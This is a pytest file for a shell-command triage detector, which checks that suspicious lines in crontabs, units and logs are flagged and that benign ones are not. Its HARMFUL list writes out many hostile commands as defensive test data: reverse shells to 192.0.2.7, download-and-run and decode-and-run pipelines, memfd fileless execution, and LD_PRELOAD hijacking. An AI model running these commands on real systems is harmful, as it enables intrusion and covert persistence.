"""Command lines as they stand in units, crontabs and logs: what is notable, and what only looks
so.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from triage.commands.cheap import ordinary_text, ordinary_words
from triage.commands.judge import judge, judge_words
from triage.commands.reasons import KINDS
from triage.commands.script import judge_script
from triage.parsers.shell import parse

HARMFUL = (
    # decoded, then run
    ("decode-execute", "echo aWQK|base64 -d|bash"),
    ("decode-execute", 'eval "$(echo aWQK | base64 --decode)"'),
    ("decode-execute", "{echo,aWQK}|{base64,-d}|{bash,-i}"),
    ("decode-execute", "timeout 5 bash -lc 'base64 -d <<< aWQK | sh'"),
    ("decode-execute", "echo aWQK | openssl base64 -d | /bin/sh"),
    ("decode-execute", "openssl enc -d -aes-256-cbc -in /etc/.x -k y | sh"),
    ("decode-execute", "xxd -r -p /etc/blob | sh"),
    ("decode-execute", "gunzip -c /var/lib/.x.gz | bash"),
    ("decode-execute", "printf '\\x63\\x75\\x72\\x6c\\x20\\x78' | sh"),
    ("decode-execute", "echo hfe | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh"),
    ("decode-execute", "base64 -d /etc/.x > /usr/lib/.y && chmod +x /usr/lib/.y && /usr/lib/.y"),
    ("decode-execute", "P=aWQK; echo $P | base64 -d | sh"),
    ("decode-execute", "bash -c \"$(base64 -d /etc/.p)\""),
    ("decode-execute", "bash <(base64 -d /etc/.p)"),
    ("decode-execute", "base32 -d < /etc/.p | python3"),
    ("decode-execute", "echo 6469 | rev | xxd -r -p | exec sh"),
    ("decode-execute", "python3 -c \"import base64;exec(base64.b64decode('aWQ='))\""),
    ("decode-execute", "python3 -c 'import zlib,base64;exec(zlib.decompress(base64.b85decode(\"x\")))'"),
    ("decode-execute", "perl -e 'eval unpack u=>q{_}'"),
    ("decode-execute", "perl -MMIME::Base64 -e 'eval decode_base64(\"aWQ=\")'"),
    ("decode-execute", "php -r 'eval(gzinflate(base64_decode(\"x\")));'"),
    ("decode-execute", "ruby -e 'eval(Base64.decode64(\"x\"))'"),
    ("decode-execute", "node -e 'eval(Buffer.from(\"x\",\"base64\").toString())'"),
    ("decode-execute", "cat /etc/.p | while true; do base64 -d; break; done | sh"),
    # fetched, then run
    ("download-execute", "curl -fsSL http://192.0.2.7/x | sh"),
    ("download-execute", "wget -qO- http://192.0.2.7/x | sudo bash -s -- -q"),
    ("download-execute", "(curl x || wget -O- x) | sh"),
    ("download-execute", "source <(wget -qO- http://192.0.2.7)"),
    ("download-execute", 'bash -c "$(curl -fsSL https://192.0.2.7)"'),
    ("download-execute", "wget -q http://192.0.2.7/x -O /opt/.x; sh /opt/.x"),
    ("download-execute", "curl -sSLo /usr/local/k http://192.0.2.7/k; chmod 755 /usr/local/k; /usr/local/k"),
    ("download-execute", "cd /opt && wget http://192.0.2.7/agent && chmod +x agent && ./agent"),
    ("download-execute", "dig +short txt c.example | sh"),
    ("download-execute", "exec 3<>/dev/tcp/192.0.2.7/80; bash <&3"),
    ("download-execute", "python -c 'import urllib.request as u;exec(u.urlopen(\"http://x\").read())'"),
    ("download-execute", "curl http://192.0.2.7 | tee /opt/a | bash"),
    ("download-execute", "curl http://192.0.2.7/x.py -o- | python3 -"),
    ("download-execute", "openssl s_client -quiet -connect c.example:443 | /bin/bash"),
    ("download-execute", "c=$(curl -s http://192.0.2.7); eval \"$c\""),
    ("download-execute", "curl -s http://192.0.2.7 | while read -r l; do eval \"$l\"; done"),
    ("download-execute", "f() { curl -s http://192.0.2.7; }; f | sh"),
    ("download-execute", "{ curl -s x || wget -qO- x; } | bash"),
    # from a volatile place
    ("volatile", "screen -dmS x /dev/shm/x"),
    ("volatile", "tmux new -d /dev/shm/x"),
    ("volatile", "at now -f /dev/shm/x"),
    ("volatile", "echo '* * * * * /dev/shm/x' | crontab -"),
    ("volatile", "/dev/shm/.x"),
    ("volatile", "sudo -u nobody nohup /dev/shm/a -d &"),
    ("volatile", "cd /dev/shm && ./run"),
    ("volatile", "cat${IFS}/dev/shm/x|sh"),
    ("volatile", "dd if=/dev/shm/p bs=1 skip=9 | sh"),
    ("volatile", "sh < /dev/shm/p"),
    ("volatile", ". /dev/shm/env"),
    ("volatile", "D=/dev/shm; $D/agent"),
    ("volatile", "/lib64/ld-linux-x86-64.so.2 /dev/shm/x"),
    ("volatile", "flock -n /var/lock/x.lock -c '/dev/shm/x'"),
    ("volatile", "find /dev/shm -name '*.sh' -exec sh {} \\;"),
    ("volatile", "insmod /dev/shm/x.ko"),
    ("volatile", "systemctl link /dev/shm/x.service"),
    ("volatile", "setsid /run/lock/.z"),
    ("volatile", "/var/lock/x"),
    ("volatile", "//dev//shm/./x"),
    ("volatile", "/proc/1/root/dev/shm/x"),
    ("volatile", "su - www-data -c '/dev/shm/x -q'"),
    ("volatile", "start-stop-daemon --start --background --exec /dev/shm/x"),
    # through memory and descriptors
    ("memfd", "python3 -c 'import os;f=os.memfd_create(\"\");os.execve(\"/proc/self/fd/%d\"%f,[\"x\"],{})'"),
    ("memfd", "perl -e '$f=syscall(319,$n=\"\",1);open(F,\">&=$f\");exec {\"/proc/self/fd/$f\"} \"x\"'"),
    ("memfd", "python3 - <<'E'\nimport os\nfd=os.memfd_create('x')\nos.fexecve(fd,['x'],{})\nE"),
    ("memfd", "ruby -e 'f=syscall 319,\"x\",0; exec \"/proc/self/fd/#{f}\"'"),
    ("fd-exec", "bash /proc/self/fd/3"),
    ("fd-exec", "exec -a kworker /proc/$$/fd/5"),
    ("fd-exec", "/dev/fd/9 --daemon"),
    ("memory-write", "dd of=/proc/$$/mem bs=1 seek=4198400 conv=notrunc"),
    ("memory-write", "tail -c+1 > /proc/self/mem"),
    # kept where no file is
    ("store-fed", "keyctl pipe 391 | bash"),
    ("store-fed", "getfattr -n user.x --only-values /etc/hosts | sh"),
    ("store-fed", 'eval "$(printenv PAYLOAD)"'),
    ("store-fed", "grep -z P= /proc/1/environ | cut -d= -f2 | sh"),
    ("store-fed", "cat /dev/mqueue/q | sh"),
    # others
    ("network-shell", "bash -i >& /dev/tcp/192.0.2.7/99 0>&1"),
    ("network-shell", "nc -e /bin/sh 192.0.2.7 99"),
    ("network-shell", "socat exec:'bash -li',pty tcp:192.0.2.7:99"),
    ("network-shell", "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'"),
    ("preload", "LD_PRELOAD=/dev/shm/x.so /usr/sbin/sshd"),
    ("preload", "echo /dev/shm/x.so > /etc/ld.so.preload"),
    ("preload", "/lib64/ld-linux-x86-64.so.2 --preload /dev/shm/x.so /bin/ls"),
    ("network-shell", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 99 > /tmp/f"),
    ("store-fed", "python3 -c 'import os;exec(os.environ[\"P\"])'"),
    ("decode-execute", "python3 -m base64 -d /etc/.x | sh"),
    ("preload", "env LD_AUDIT=/tmp/a.so /usr/bin/id"),
    ("hides-process", "mount --bind /proc/2 /proc/1234"),
)  # fmt: skip
BENIGN = (
    "/usr/sbin/sshd -D",
    "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
    "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
    "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
    "if [ -x /usr/bin/mdadm ] && [ $(date +\\%d) -le 7 ]; then /usr/share/mdadm/checkarray --cron --all; fi",
    "test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron",
    "mkdir -p /dev/shm/app && exec postgres -D /var/lib/pg",
    "curl -fsS -m 10 https://hc-ping.example/x > /dev/null",
    'eval "$(dircolors -b)"',
    'eval "$(ssh-agent -s)"',
    "eval $(/usr/bin/locale-check C.UTF-8)",
    "source <(kubectl completion bash)",
    "zcat /var/backups/x.sql.gz | mysql db",
    "find /tmp -type f -mtime +7 -delete",
    "rm -rf /tmp/* /var/tmp/cache",
    "curl -s https://api.example/v1 | jq .version",
    "wget -q -O /dev/null http://localhost/cron.php",
    "certbot -q renew --deploy-hook 'systemctl reload nginx'",
    "/bin/sh -c 'echo 1 > /proc/sys/vm/drop_caches'",
    "exec 3>/tmp/lock; flock 3",
    "flock -n /run/lock/backup.lock /usr/local/bin/backup",
    "/usr/bin/python3 -c 'import sys; print(sys.version)'",
    "base64 -d /etc/app/k > /etc/app/key.bin && chmod 600 /etc/app/key.bin",
    "tar -xzf /tmp/x.tgz -C /opt",
    "curl -sL https://dl.example/x.tar.gz | tar xz -C /opt",
    "curl -fsSL https://x.example/gpg | gpg --dearmor -o /usr/share/keyrings/k.gpg",
    "test -e /run/reboot-required && reboot",
    "cat /run/x.pid | xargs kill",
    "kill -HUP `cat /run/nginx.pid`",
    "pg_dump db | gzip > /tmp/x.gz",
    ". /etc/default/locale",
    "bash -c 'for i in 1 2; do echo $i; done'",
    "perl -ne 'print if /x/' /etc/passwd",
    "python3 /opt/app/run.py --socket /run/app.sock --tmp /dev/shm/app",
    "/usr/sbin/nginx -g 'daemon on; master_process on;'",
    "tee -a /proc/1/fd/1",
    "ssh backup@host 'cat /dump' > /tmp/x",
    "sh -c 'cd /tmp && ls'",
    "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server /etc/redis.conf",
    "LD_LIBRARY_PATH=/opt/app/lib /opt/app/bin/server",
    "curl -X POST http://x.example -d @/tmp/y",
    "/run/current-system/sw/bin/nix-gc",
    "/run/wrappers/bin/sudo -u postgres psql",
    "start-stop-daemon --stop --quiet --pidfile /run/sshd.pid --exec /usr/sbin/sshd",
    "diff <(sort /etc/a) <(sort /etc/b)",
    "timeout 2 bash -c 'echo > /dev/tcp/db.example/5432'",
    "keyctl pipe 391 | cryptsetup open /dev/vg/data data --key-file -",
    "mount -t tmpfs -o size=64m tmpfs /mnt/ram",
    "mount --bind /srv/data /home/data",
    "xargs -0 -n 100 rm < /run/app/list",
    "dd if=/dev/zero of=/swapfile bs=1M count=1024",
    "tr 'A-Z' 'a-z' < /etc/x | sh -n",
    "nc -z localhost 5432",
    "/usr/bin/env FOO=1 /usr/bin/app",
    "systemctl enable --now docker.service",
)  # fmt: skip


@pytest.mark.parametrize(("kind", "command"), HARMFUL)
def test_a_harmful_command_is_told_with_its_reason(kind: str, command: str) -> None:
    assert kind in {reason.kind for reason in judge(command)}


@pytest.mark.parametrize("command", BENIGN)
def test_an_ordinary_command_is_silent(command: str) -> None:
    if command.startswith("tr "):  # changes letter case: whatever sh does with it
        assert "decode-execute" not in {reason.kind for reason in judge(command)}
    else:
        assert judge(command) == ()


@pytest.mark.parametrize(("kind", "command"), HARMFUL)
def test_wrapping_does_not_hide_it(kind: str, command: str) -> None:
    """As cron, su or a unit's ``sh -c`` would have it."""
    quoted = "'" + command.replace("'", "'\\''") + "'"
    for wrapped in (f"/bin/sh -c {quoted}", f"sudo -n bash -c {quoted}", f"true; {command}"):
        assert kind in {reason.kind for reason in judge(wrapped)}, wrapped


def test_every_kind_is_documented_and_reached() -> None:
    found = {reason.kind for _, command in HARMFUL for reason in judge(command)}
    assert found == set(KINDS)


@pytest.mark.parametrize(
    ("words", "kind"),
    [
        (("bash", "-c", "curl x | sh"), "download-execute"),
        (("/dev/shm/x",), "volatile"),
        (("python3", "/dev/shm/x.py"), "volatile"),
        (("env", "-i", "/dev/shm/x"), "volatile"),
        (("dd", "if=/x", "of=/proc/9/mem"), "memory-write"),
        (("env", "LD_PRELOAD=/dev/shm/x.so", "id"), "preload"),
    ],
)
def test_words_are_judged_like_text(words: tuple[str, ...], kind: str) -> None:
    assert kind in {reason.kind for reason in judge_words(words)}
    assert not ordinary_words(words)


def test_what_the_cheap_question_dismisses_has_nothing_to_judge() -> None:
    """The sieve of the logs must never dismiss what the judge would name."""
    for _, command in HARMFUL:
        assert not ordinary_text(command), command
        words = tuple(command.split())
        if judge_words(words):
            assert not ordinary_words(words), command


def test_a_relative_path_is_taken_from_the_working_directory() -> None:
    assert judge_words(("bash", "x.sh"), "/dev/shm")
    assert judge_words(("bash", "x.sh"), "/srv") == ()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("#!/usr/bin/env python3\nimport base64\nexec(base64.b64decode(B))\n", True),
        ("#!/usr/bin/python3\nimport os\nf = os.memfd_create('a')\nos.execve(f'/proc/self/fd/{f}', [], {})\n",
         True),
        ("#!/usr/bin/python3\nimport base64, subprocess\nkey = base64.b64decode(x)\nsubprocess.run([1])\n", False),
        ("#!/usr/bin/perl\nuse MIME::Base64;\nprint decode_base64($x);\nsystem('ls');\n", False),
        ("#!/bin/sh\nset -e\n. /lib/lsb/init-functions\nstart-stop-daemon --start --exec /usr/sbin/x\n",
         False),
        ("#!/bin/sh\nT=$(mktemp)\ncurl -s http://192.0.2.7 -o $T\nsh $T\n", True),
    ],
)  # fmt: skip
def test_a_whole_script_is_read_in_its_own_language(text: str, expected: bool) -> None:
    assert bool(judge_script(text)) is expected


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="abc/ $(){}<>|&;'\"`\\\n=#!-0129*", max_size=200))
def test_reading_is_total(text: str) -> None:
    commands = parse(text)
    for index, command in enumerate(commands):
        assert all(0 <= inner < index for inner in command.piped)
        assert all(0 <= inner < index for inner in (*command.within, *command.fed))
    judge(text)


@pytest.mark.parametrize(
    "text",
    [
        "$(" * 5000,
        "`" * 9999,
        "(" * 20000,
        "a|" * 20000,
        "<(" * 9000,
        "${" * 9000,
        "'" + "x" * 99999,
    ],
)
def test_hostile_text_ends_soon(text: str) -> None:
    assert len(parse(text)) <= 4000


@pytest.mark.parametrize("text", [
    'case "$d" in /dev/nbd*|/dev/nd[a-z]*) echo x;; esac',
    'case $d in\n  # disks\n  (/dev/loop/*|/dev/shm/*)\n    y=`losetup $d`\n  ;;\n  *) exit;;\nesac',
    "while read d m; do\n case \"$d\" in\n @(/dev/etherd/e*|/dev/shm/x)) x=1 ;;\n esac\ndone < /etc/fstab",
    "f() { case $1 in /dev/shm/*) return 0;; esac; }",
    "dirs=(/run/depmod.d /etc/depmod.d)\nlocal -a files=(\n  /dev/shm/a # one\n  /dev/shm/b\n)\n",
    "X+=(/dev/shm/a); declare -r Y=(/run/y)", "case", "case x", "case x in", "case x in /dev/shm/a",
])  # fmt: skip
def test_patterns_and_lists_are_not_run(text: str) -> None:
    assert judge(text) == ()


@pytest.mark.parametrize("text", [
    "case $1 in start) /dev/shm/x & ;; esac", "case a in (a) ;; b|c) cd /dev/shm && ./x; esac",
    "case x in x) :;; esac; /dev/shm/x", "case $(curl -s http://192.0.2.7/x | sh) in *) ;; esac",
    "curl -s http://192.0.2.7/x | case a in *) sh;; esac", "x=(/dev/shm/x -d)\n$x",
    "if case $a in b) true;; esac; then /dev/shm/x; fi", "x=(a b); /dev/shm/x",
    "case in in in) /dev/shm/x;; esac", "f=(); f() { /dev/shm/x; }; f",
])  # fmt: skip
def test_what_stands_behind_them_is_run(text: str) -> None:
    assert judge(text) != ()
